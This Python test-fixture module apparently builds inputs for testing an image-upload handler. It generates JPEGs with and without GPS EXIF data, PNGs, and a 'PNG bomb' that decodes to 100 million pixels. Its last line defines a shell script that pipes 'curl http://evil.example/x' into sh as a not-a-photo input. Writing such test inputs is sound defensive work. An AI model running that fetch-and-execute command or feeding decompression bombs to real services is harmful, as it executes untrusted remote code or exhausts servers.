"""Test images made on the spot: photos, a photo with GPS in its EXIF, a PNG bomb, not-photos."""

from __future__ import annotations

import io

from PIL import Image

GPS_IFD = 0x8825


def jpeg(size: tuple[int, int] = (1200, 900), *, gps: bool = False, color: str = "teal") -> bytes:
    img = Image.new("RGB", size, color)
    for x in range(0, size[0], 50):  # some detail, so the encoder has work to do
        img.paste("orange", (x, 0, x + 10, size[1]))
    exif = Image.Exif()
    exif[0x010F] = "TestCam"  # Make
    exif[0x0110] = "Model 1"  # Model
    if gps:
        ifd = exif.get_ifd(GPS_IFD)
        ifd[1] = "N"
        ifd[2] = (39.0, 7.0, 30.0)
        ifd[3] = "E"
        ifd[4] = (117.0, 12.0, 10.0)
    buf = io.BytesIO()
    img.save(buf, "JPEG", exif=exif.tobytes(), quality=90)
    return buf.getvalue()


def png(size: tuple[int, int] = (800, 600), *, transparent: bool = False) -> bytes:
    img = Image.new(
        "RGBA" if transparent else "RGB", size, (30, 90, 200, 128 if transparent else 255)
    )
    buf = io.BytesIO()
    img.save(buf, "PNG")
    return buf.getvalue()


def png_bomb(side: int = 10_000) -> bytes:
    """A small file that decodes to side × side pixels (100 M by default)."""
    buf = io.BytesIO()
    Image.new("1", (side, side), 0).save(buf, "PNG", optimize=True)
    return buf.getvalue()


def gps_of(data: bytes) -> dict[int, object]:
    with Image.open(io.BytesIO(data)) as img:
        return dict(img.getexif().get_ifd(GPS_IFD))


def exif_of(data: bytes) -> dict[int, object]:
    with Image.open(io.BytesIO(data)) as img:
        return dict(img.getexif())


def size_of(data: bytes) -> tuple[int, int]:
    with Image.open(io.BytesIO(data)) as img:
        return img.size


SCRIPT = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
